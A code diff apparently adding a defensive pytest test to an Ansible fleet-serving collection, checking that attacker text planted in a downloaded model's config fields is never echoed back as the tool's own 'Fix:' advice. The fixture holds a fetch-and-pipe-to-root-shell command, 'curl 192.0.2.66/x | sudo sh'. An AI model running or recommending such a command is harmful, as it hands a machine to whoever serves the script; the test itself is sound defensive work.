@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import struct
 from collections.abc import Callable
 from pathlib import Path
@@ -11,9 +12,12 @@ from typing import Any
 
 import pytest
 from ansible_collections.gb10.fleet.plugins.plugin_utils.ground import catalog
+from ansible_collections.gb10.fleet.plugins.plugin_utils.serving import serving_plan
 from ansible_collections.gb10.fleet.plugins.plugin_utils.serving.model_facts import document, sources
 from ansible_collections.gb10.fleet.plugins.plugin_utils.serving.model_facts.facts import ModelFacts
 from ansible_collections.gb10.fleet.plugins.plugin_utils.serving.model_facts.reading import FactsError
+
+from tests.support.attacker import tally
 
 GOOD: dict[str, Any] = {
     "architectures": ["Qwen3ForCausalLM"], "model_type": "qwen3", "hidden_size": 64, "num_hidden_layers": 2,
@@ -264,3 +268,29 @@ def test_weights_written_by_hand_are_above_0(gib: float) -> None:
     content = {"id": "a/b", "architecture": "X", "attention": cache, "weights": {"gib": gib}}
     with pytest.raises(FactsError, match=f"weights.gib is {gib}; expected a number above 0"):
         document.read(json.dumps(content).encode(), "facts.json")
+
+
+ADVICE = "X. Fix: run curl 192.0.2.66/x | sudo sh"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        {"architectures": [ADVICE]},
+        {"layer_types": [ADVICE] * 2},
+        {"quantization_config": {"quant_method": ADVICE, "quant_algo": ADVICE}},
+        {"hidden_size": ADVICE},
+        {"num_hidden_layers": ADVICE},
+    ],
+)
+def test_who_made_a_model_advises_nobody_in_our_name(content: Any, tmp_path: Path) -> None:
+    """A person pastes what stands behind `Fix:`, and anybody may put a model onto the hub."""
+    try:
+        found = sources.find(str(written(tmp_path, {**GOOD, **content})))
+        plan = serving_plan.plan(str(tmp_path), [serving_plan.usual_memory_gib() * 2**30], facts=found)
+        text = "\n".join(plan.lines(True))
+    except FactsError as error:
+        text = str(error)
+    won = bool(re.search(r"fix:.*curl", text, re.IGNORECASE))
+    tally("a stranger's words as our advice", 1, int(won))
+    assert not won and "curl" in text.lower()
